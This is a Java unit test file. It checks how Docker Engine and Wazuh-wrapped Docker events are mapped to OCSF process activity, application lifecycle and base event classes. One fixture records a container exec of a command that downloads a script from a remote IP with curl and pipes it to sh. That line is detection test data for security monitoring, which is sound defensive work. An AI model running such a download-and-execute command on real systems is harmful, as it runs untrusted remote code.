package io.socaas.events.ocsf;

import static io.socaas.events.ocsf.MappedRecords.assertBaseEventOf;
import static io.socaas.events.ocsf.MappedRecords.assertProduct;
import static io.socaas.events.ocsf.MappedRecords.json;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import org.junit.jupiter.api.Test;

/**
 * Docker Engine events, as its events API writes them and as Wazuh's Docker listener wraps them: a
 * command run in a container is Process Activity with its command line, container and image
 * lifecycles are Application Lifecycle with the image, other objects' events Base Events.
 */
class DockerEventsMappingsTest {

    private static String engine(String type, String action, String attributes) {
        return "{\"status\":\"" + action + "\",\"id\":\"4f1a9c\",\"Type\":\"" + type + "\",\"Action\":\"" + action
                + "\",\"Actor\":{\"ID\":\"4f1a9c\",\"Attributes\":{" + attributes + "}},\"scope\":\"local\","
                + "\"time\":1772359080,\"timeNano\":1772359080123456789}";
    }

    private static String wazuh(String type, String action, String attributes) {
        return "{\"integration\":\"docker\",\"docker\":{\"Type\":\"" + type + "\",\"Action\":\"" + action
                + "\",\"Actor\":{\"ID\":\"4f1a9c\",\"Attributes\":{" + attributes + "}},\"scope\":\"local\","
                + "\"time\":1772359080,\"timeNano\":1772359080123456789}}";
    }

    private static final String CONTAINER = "\"image\":\"alpine:3.19\",\"name\":\"web\"";

    @Test
    void aCommandRunInAContainerIsAProcessLaunchInBothShapes() throws Exception {
        for (String event : new String[] {
            engine("container", "exec_start: sh -c curl http://203.0.113.9/x.sh | sh", CONTAINER),
            wazuh("container", "exec_start: sh -c curl http://203.0.113.9/x.sh | sh", CONTAINER)
        }) {
            JsonNode r = json(event);
            assertProduct(r, "Docker Engine");
            assertThat(r.get("class_uid").asInt()).as(event).isEqualTo(1007);
            assertThat(r.get("activity_id").asInt()).isEqualTo(1);
            assertThat(r.at("/process/cmd_line").asText()).isEqualTo("sh -c curl http://203.0.113.9/x.sh | sh");
            assertThat(r.get("time").asLong()).as("timeNano").isEqualTo(1772359080123L);
            assertThat(r.at("/metadata/log_name").asText()).isEqualTo("container");
        }
    }

    @Test
    void containerAndImageLifecyclesAreApplicationLifecycle() throws Exception {
        String[][] cases = {
            {"create", "1"},
            {"start", "3"},
            {"stop", "4"},
            {"kill", "4"},
            {"die", "4"},
            {"restart", "5"},
            {"update", "8"},
            {"destroy", "2"}
        };
        for (String[] c : cases) {
            for (String event :
                    new String[] {engine("container", c[0], CONTAINER), wazuh("container", c[0], CONTAINER)}) {
                JsonNode r = json(event);
                assertThat(r.get("class_uid").asInt()).as(event).isEqualTo(6002);
                assertThat(r.get("activity_id").asInt()).as(event).isEqualTo(Integer.parseInt(c[1]));
                assertThat(r.at("/app/name").asText()).isEqualTo("alpine:3.19");
            }
        }
        JsonNode died = json(engine("container", "die", CONTAINER + ",\"exitCode\":\"137\""));
        assertThat(died.get("status_code").asText()).isEqualTo("137");
        JsonNode pulled = json(engine("image", "pull", "\"name\":\"nginx:latest\""));
        assertThat(pulled.get("class_uid").asInt()).isEqualTo(6002);
        assertThat(pulled.get("activity_id").asInt()).isEqualTo(1);
        assertThat(pulled.at("/app/name").asText()).isEqualTo("nginx:latest");
    }

    @Test
    void otherObjectsAreBaseEventsAndLookalikesAreNotDockers() throws Exception {
        assertBaseEventOf(
                json(engine("network", "connect", "\"container\":\"4f1a9c\",\"name\":\"bridge\"")), "Docker Engine");
        assertBaseEventOf(json(wazuh("volume", "create", "\"driver\":\"local\",\"name\":\"data\"")), "Docker Engine");
        assertBaseEventOf(json(engine("container", "pause", CONTAINER)), "Docker Engine");
        JsonNode other = json("{\"Type\":\"order\",\"Action\":\"create\",\"Actor\":{\"ID\":\"7\"},\"timeNano\":1}");
        assertThat(other.at("/metadata/product/name").asText()).isNotEqualTo("Docker Engine");
    }
}
